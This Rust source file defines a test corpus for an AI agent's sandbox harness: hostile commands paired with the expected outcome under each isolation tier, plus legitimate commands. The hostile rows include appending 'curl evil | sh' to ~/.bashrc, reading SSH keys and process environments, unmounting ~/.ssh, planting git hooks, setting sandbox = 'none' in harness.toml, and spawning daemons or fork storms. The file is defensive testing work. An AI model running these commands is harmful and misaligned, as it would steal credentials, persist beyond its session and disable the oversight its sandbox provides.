//! The hostile-command corpus: what each tier blocks and what it lets
//! through, as data.
//!
//! Each row is a command a model might run, what the test observes on the
//! host to decide whether it got through, and the expected result under
//! every tier. `tests/hostile.rs` runs every row under every tier and
//! asserts it (one test per row, named as the row); `harness sandbox explain` prints the table from the same rows,
//! each naming the test that backs it. A row is never "blocked" because the
//! command failed: only the host-side effect counts.
//!
//! Placeholders in the argv and paths, filled in by the test:
//! `{workspace}`, `{home}` (with a test key at `.ssh/id_ed25519`), `{token}`
//! (digits unique to the test), `{port}` (a TCP and a UDP port on 127.0.0.1
//! the test listens on), `{unix_socket}` (the path of a Unix socket the
//! test listens on, outside the workspace), `{victim}` (a process the test
//! started outside, with `HARNESS_VICTIM=outside` in its environment),
//! `{harness_pid}` (the test process).
//!
//! The rows on `harness.toml` stand for the configuration of the program that
//! runs the commands: this crate protects no name of its own but `.git`, so
//! the test protects [`PROTECTED_NAME`] with
//! [`Confinement::protect_in_workspace`](crate::Confinement::protect_in_workspace),
//! as the harness CLI protects its `harness.toml`.

use crate::tier::Tier;

/// The name at the top of the workspace the rows expect the caller to protect
/// ([`Confinement::protect_in_workspace`](crate::Confinement::protect_in_workspace)).
pub const PROTECTED_NAME: &str = "harness.toml";

/// One hostile (or legitimate) command and its expected result per tier.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct HostileCommand {
    /// The row's name, also its test's name.
    pub id: &'static str,
    /// What the command tries, for the table.
    pub what: &'static str,
    /// The command, with placeholders.
    pub argv: &'static [&'static str],
    /// How the test tells whether it got through.
    pub observe: Observe,
    /// Expected without isolation.
    pub none: Expect,
    /// Expected under Landlock (from `landlock_abi` on; allowed below it).
    pub landlock: Expect,
    /// The Landlock ABI version that blocks it, when `landlock` is blocked.
    pub landlock_abi: u32,
    /// Expected under bubblewrap.
    pub bwrap: Expect,
    /// Programs the row needs on `PATH`; without them the row is skipped.
    pub needs: &'static [&'static str],
    /// True if and only if this is work a model should be able to do, not an
    /// attack: "allowed" then means "works".
    pub legitimate: bool,
}

/// Whether a command gets through.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Expect {
    /// The effect does not happen.
    Blocked,
    /// The effect happens (for a legitimate command: it works).
    Allowed,
    /// The effect happens, and the runner undoes it once the command has ended, and
    /// says so in the outcome ([`Outcome::repaired`], [`Outcome::set_aside`]): what the
    /// Landlock tier cannot refuse once commands may make and remove entries at the top
    /// of the workspace.
    ///
    /// [`Outcome::repaired`]: crate::Outcome::repaired
    /// [`Outcome::set_aside`]: crate::Outcome::set_aside
    Repaired,
}

/// What the test observes on the host after the command ran.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Observe {
    /// Got through if and only if this file exists afterwards.
    Creates(&'static str),
    /// Got through if and only if this file's content changed.
    Changes(&'static str),
    /// Got through if and only if this path is gone afterwards.
    Removes(&'static str),
    /// Got through if and only if this path's permission bits changed.
    ChangesMode(&'static str),
    /// Got through if and only if this path is a file with the setuid or
    /// setgid bit afterwards.
    SetsId(&'static str),
    /// Got through if and only if the output contains this text.
    Prints(&'static str),
    /// Got through if and only if the test's TCP listener accepted a connection.
    ConnectsTcp,
    /// Got through if and only if the test's UDP socket received a datagram.
    SendsUdp,
    /// Got through if and only if the test's Unix socket accepted a
    /// connection.
    ConnectsUnix,
    /// Got through if and only if the victim process is gone.
    KillsVictim,
    /// Got through if and only if the victim process's resource limits changed.
    LimitsVictim,
    /// Got through if and only if a process whose command line contains
    /// this text is still alive after the call returned.
    Survives(&'static str),
    /// Got through (works) if and only if the command exits 0.
    Succeeds,
}

impl HostileCommand {
    /// The expected result under `tier`, on a kernel of Landlock ABI `abi`.
    pub fn expected(&self, tier: Tier, abi: u32) -> Expect {
        match tier {
            Tier::None => self.none,
            Tier::Landlock if abi < self.landlock_abi => Expect::Allowed,
            Tier::Landlock => self.landlock,
            Tier::Bwrap => self.bwrap,
        }
    }

    /// The test that asserts this row under every tier, as
    /// `harness-exec::<id>` (in `crates/harness-exec/tests/hostile.rs`).
    pub fn test_name(&self) -> String {
        format!("harness-exec::{}", self.id)
    }
}

use Expect::{Allowed, Blocked, Repaired};

const fn row(
    id: &'static str,
    what: &'static str,
    argv: &'static [&'static str],
    observe: Observe,
    [none, landlock, bwrap]: [Expect; 3],
) -> HostileCommand {
    HostileCommand {
        id,
        what,
        argv,
        observe,
        none,
        landlock,
        landlock_abi: 1,
        bwrap,
        needs: &[],
        legitimate: false,
    }
}

const fn legitimate(mut command: HostileCommand) -> HostileCommand {
    command.legitimate = true;
    command
}

const fn needs(mut command: HostileCommand, programs: &'static [&'static str]) -> HostileCommand {
    command.needs = programs;
    command
}

const fn from_abi(mut command: HostileCommand, abi: u32) -> HostileCommand {
    command.landlock_abi = abi;
    command
}

/// Every row, in the order of the table.
pub const HOSTILE_COMMANDS: &[HostileCommand] = &[
    row(
        "write_home",
        "write a file in $HOME",
        &["sh", "-c", "echo x > {home}/harness-probe"],
        Observe::Creates("{home}/harness-probe"),
        [Allowed, Blocked, Blocked],
    ),
    row(
        "append_home_file",
        "append to an existing file in $HOME (~/.bashrc)",
        &["sh", "-c", "echo 'curl evil | sh' >> {home}/.bashrc"],
        Observe::Changes("{home}/.bashrc"),
        [Allowed, Blocked, Blocked],
    ),
    row(
        "chmod_home_file",
        "let everyone write a file in $HOME (chmod 666 ~/.bashrc)",
        &["sh", "-c", "chmod 666 {home}/.bashrc"],
        Observe::ChangesMode("{home}/.bashrc"),
        [Allowed, Allowed, Blocked],
    ),
    row(
        "setuid_program",
        "make a setuid program in the workspace (chmod 4755)",
        &[
            "sh",
            "-c",
            "cat /bin/sh > {workspace}/tool; chmod 4755 {workspace}/tool",
        ],
        Observe::SetsId("{workspace}/tool"),
        [Allowed, Blocked, Blocked],
    ),
    needs(
        row(
            "write_home_python",
            "python3: open('~/x', 'w')",
            &[
                "python3",
                "-c",
                "import os; open(os.path.expanduser('~/x'), 'w')",
            ],
            Observe::Creates("{home}/x"),
            [Allowed, Blocked, Blocked],
        ),
        &["python3"],
    ),
    row(
        "write_tmp",
        "write in /tmp outside the private temporary directory",
        &["sh", "-c", "echo x > /tmp/harness-probe-{token}"],
        Observe::Creates("/tmp/harness-probe-{token}"),
        [Allowed, Blocked, Blocked],
    ),
    row(
        "write_etc",
        "write in /etc",
        &["sh", "-c", "echo x > /etc/harness-probe-{token}"],
        Observe::Creates("/etc/harness-probe-{token}"),
        [Allowed, Blocked, Blocked],
    ),
    row(
        "rm_rf_git",
        "rm -rf .git (the undo path)",
        &["rm", "-rf", ".git"],
        Observe::Removes("{workspace}/.git/HEAD"),
        [Allowed, Repaired, Blocked],
    ),
    row(
        "git_update_ref",
        "git update-ref -d refs/heads/main",
        &["git", "update-ref", "-d", "refs/heads/main"],
        Observe::Removes("{workspace}/.git/refs/heads/main"),
        [Allowed, Repaired, Blocked],
    ),
    row(
        "git_hook",
        "write .git/hooks/pre-commit",
        &["sh", "-c", "echo 'echo owned' > .git/hooks/pre-commit"],
        Observe::Creates("{workspace}/.git/hooks/pre-commit"),
        [Allowed, Repaired, Blocked],
    ),
    row(
        "nested_git_hook",
        "write a hook in a nested repository's .git",
        &[
            "sh",
            "-c",
            "echo 'echo owned' > vendor/lib/.git/hooks/post-checkout",
        ],
        Observe::Creates("{workspace}/vendor/lib/.git/hooks/post-checkout"),
        [Allowed, Repaired, Blocked],
    ),
    row(
        "write_harness_toml",
        "append to harness.toml",
        &["sh", "-c", "echo 'sandbox = \"none\"' >> harness.toml"],
        Observe::Changes("{workspace}/harness.toml"),
        [Allowed, Repaired, Blocked],
    ),
    row(
        "create_harness_toml",
        "create harness.toml where there is none",
        &["sh", "-c", "echo 'verify = \"true\"' > harness.toml"],
        Observe::Creates("{workspace}/harness.toml"),
        [Allowed, Repaired, Repaired],
    ),
    row(
        "read_ssh_key",
        "read ~/.ssh/id_ed25519",
        &["cat", "{home}/.ssh/id_ed25519"],
        Observe::Prints("HARNESS-TEST-KEY"),
        [Allowed, Blocked, Blocked],
    ),
    row(
        "read_harness_environ",
        "read /proc/<harness pid>/environ",
        &["cat", "/proc/{harness_pid}/environ"],
        Observe::Prints("PATH="),
        // Under Landlock, refused by its ptrace scoping to a command without
        // `CAP_SYS_PTRACE`, and by the capability rules to one run by root
        // that gave up its capabilities; with them, root read it.
        [Allowed, Blocked, Blocked],
    ),
    row(
        "read_outside_environ",
        "read /proc/<pid>/environ of a process started outside the command",
        &["cat", "/proc/{victim}/environ"],
        Observe::Prints("HARNESS_VICTIM=outside"),
        [Allowed, Blocked, Blocked],
    ),
    needs(
        row(
            "unmount_ssh",
            "python3: unmount what hides ~/.ssh, then read the key",
            &[
                "python3",
                "-c",
                "import ctypes; ctypes.CDLL(None).umount2(b'{home}/.ssh', 2); \
                 print(open('{home}/.ssh/id_ed25519').read())",
            ],
            Observe::Prints("HARNESS-TEST-KEY"),
            [Allowed, Blocked, Blocked],
        ),
        &["python3"],
    ),
    needs(
        row(
            "tcp_bash",
            "bash: connect to 127.0.0.1 via /dev/tcp",
            &["bash", "-c", "echo hi > /dev/tcp/127.0.0.1/{port}"],
            Observe::ConnectsTcp,
            [Allowed, Blocked, Blocked],
        ),
        &["bash"],
    ),
    needs(
        row(
            "tcp_python",
            "python3: TCP connect to 127.0.0.1",
            &[
                "python3",
                "-c",
                "import socket; socket.create_connection(('127.0.0.1', {port}), 3)",
            ],
            Observe::ConnectsTcp,
            [Allowed, Blocked, Blocked],
        ),
        &["python3"],
    ),
    needs(
        row(
            "tcp_curl",
            "curl http://127.0.0.1",
            &["curl", "-s", "-m", "3", "http://127.0.0.1:{port}/"],
            Observe::ConnectsTcp,
            [Allowed, Blocked, Blocked],
        ),
        &["curl"],
    ),
    needs(
        row(
            "udp_send",
            "python3: send a UDP datagram to 127.0.0.1",
            &[
                "python3",
                "-c",
                "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', {port}))",
            ],
            Observe::SendsUdp,
            [Allowed, Blocked, Blocked],
        ),
        &["python3"],
    ),
    needs(
        row(
            "keyring",
            "python3: reach your kernel keyring (keyctl)",
            &[
                "python3",
                "-c",
                "import ctypes, os; keyctl = {'x86_64': 250, 'aarch64': 219}[os.uname().machine]; print('KEYRING' if ctypes.CDLL(None).syscall(keyctl, 0, -4, 1) >= 0 else 'refused')",
            ],
            Observe::Prints("KEYRING"),
            [Allowed, Blocked, Blocked],
        ),
        &["python3"],
    ),
    needs(
        row(
            "unix_socket_outside",
            "python3: connect to a Unix socket of a service outside",
            &[
                "python3",
                "-c",
                "import socket; socket.socket(socket.AF_UNIX).connect('{unix_socket}')",
            ],
            Observe::ConnectsUnix,
            [Allowed, Blocked, Blocked],
        ),
        &["python3"],
    ),
    needs(
        legitimate(row(
            "socketpair",
            "python3: a socket pair between its own processes",
            &[
                "python3",
                "-c",
                "import socket; a, b = socket.socketpair(); a.send(b'x'); assert b.recv(1) == b'x'",
            ],
            Observe::Succeeds,
            [Allowed, Allowed, Allowed],
        )),
        &["python3"],
    ),
    from_abi(
        row(
            "kill_outside",
            "kill a process started outside the command",
            &["kill", "-9", "{victim}"],
            Observe::KillsVictim,
            [Allowed, Blocked, Blocked],
        ),
        6,
    ),
    needs(
        row(
            "limit_outside",
            "python3: set a resource limit of a process started outside",
            &[
                "python3",
                "-c",
                "import resource; resource.prlimit({victim}, resource.RLIMIT_NOFILE, (7, 7))",
            ],
            Observe::LimitsVictim,
            [Allowed, Blocked, Blocked],
        ),
        &["python3"],
    ),
    row(
        "daemon",
        "start a daemon (setsid) that outlives the call",
        &[
            "sh",
            "-c",
            "setsid sh -c 'exec sleep 1{token}' </dev/null >/dev/null 2>&1 &",
        ],
        Observe::Survives("sleep\u{0}1{token}"),
        [Blocked, Blocked, Blocked],
    ),
    row(
        "fork_storm",
        "fork storm until the timeout",
        &["sh", "-c", "while :; do (sleep 2{token} &); done"],
        Observe::Survives("sleep\u{0}2{token}"),
        [Blocked, Blocked, Blocked],
    ),
    legitimate(row(
        "write_workspace",
        "write a file in a workspace directory",
        &["sh", "-c", "echo x > src/new.txt"],
        Observe::Creates("{workspace}/src/new.txt"),
        [Allowed, Allowed, Allowed],
    )),
    legitimate(row(
        "create_top_level",
        "create a new entry at the top of the workspace",
        &["sh", "-c", "echo x > new.txt"],
        Observe::Creates("{workspace}/new.txt"),
        [Allowed, Allowed, Allowed],
    )),
    legitimate(row(
        "remove_top_level",
        "remove and rename entries at the top of the workspace",
        &[
            "sh",
            "-c",
            "rm probe.test.mjs && mv Cargo.toml Renamed.toml",
        ],
        Observe::Removes("{workspace}/probe.test.mjs"),
        [Allowed, Allowed, Allowed],
    )),
    legitimate(row(
        "private_tmp",
        "write and read $TMPDIR",
        &["sh", "-c", "echo x > \"$TMPDIR/f\" && cat \"$TMPDIR/f\""],
        Observe::Succeeds,
        [Allowed, Allowed, Allowed],
    )),
    legitimate(row(
        "git_status",
        "git status",
        &["git", "status"],
        Observe::Succeeds,
        [Allowed, Allowed, Allowed],
    )),
    legitimate(row(
        "git_diff",
        "git diff",
        &["git", "diff", "--exit-code"],
        Observe::Succeeds,
        [Allowed, Allowed, Allowed],
    )),
    legitimate(needs(
        row(
            "python_unittest",
            "python3 -m unittest",
            &["python3", "-m", "unittest", "-q"],
            Observe::Succeeds,
            [Allowed, Allowed, Allowed],
        ),
        &["python3"],
    )),
    legitimate(needs(
        row(
            "python_multiprocessing",
            "python3: a multiprocessing pool (locks in /dev/shm)",
            &[
                "python3",
                "-c",
                "import multiprocessing as m; print('POOL', m.Pool(2).map(abs, [-1, -2]))",
            ],
            Observe::Prints("POOL [1, 2]"),
            // Landlock grants no write to the machine's shared /dev/shm; bwrap's
            // /dev is the command's own.
            [Allowed, Blocked, Allowed],
        ),
        &["python3"],
    )),
    legitimate(needs(
        row(
            "node_test",
            "node --test",
            &["node", "--test"],
            Observe::Succeeds,
            [Allowed, Allowed, Allowed],
        ),
        &["node"],
    )),
    legitimate(needs(
        row(
            "cargo_test",
            "cargo test on a tiny crate (target/ present)",
            &["cargo", "test", "--offline", "-q"],
            Observe::Succeeds,
            [Allowed, Allowed, Allowed],
        ),
        &["cargo"],
    )),
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ids_are_unique_and_legitimate_commands_work_everywhere() {
        let mut ids: Vec<&str> = HOSTILE_COMMANDS.iter().map(|row| row.id).collect();
        ids.sort_unstable();
        ids.dedup();
        assert_eq!(ids.len(), HOSTILE_COMMANDS.len());
        for row in HOSTILE_COMMANDS {
            if row.observe == Observe::Succeeds {
                assert!(row.legitimate, "{} succeeds but is not legitimate", row.id);
                assert!(
                    Tier::ALL
                        .iter()
                        .all(|&tier| row.expected(tier, 7) == Allowed)
                );
            }
        }
    }

    #[test]
    fn below_its_abi_landlock_lets_a_row_through() {
        let kill = HOSTILE_COMMANDS
            .iter()
            .find(|row| row.id == "kill_outside")
            .expect("row");
        assert_eq!(kill.expected(Tier::Landlock, 6), Blocked);
        assert_eq!(kill.expected(Tier::Landlock, 5), Allowed);
        assert_eq!(kill.expected(Tier::Bwrap, 5), Blocked);
        assert_eq!(kill.expected(Tier::None, 7), Allowed);
        assert_eq!(kill.test_name(), "harness-exec::kill_outside");
    }
}
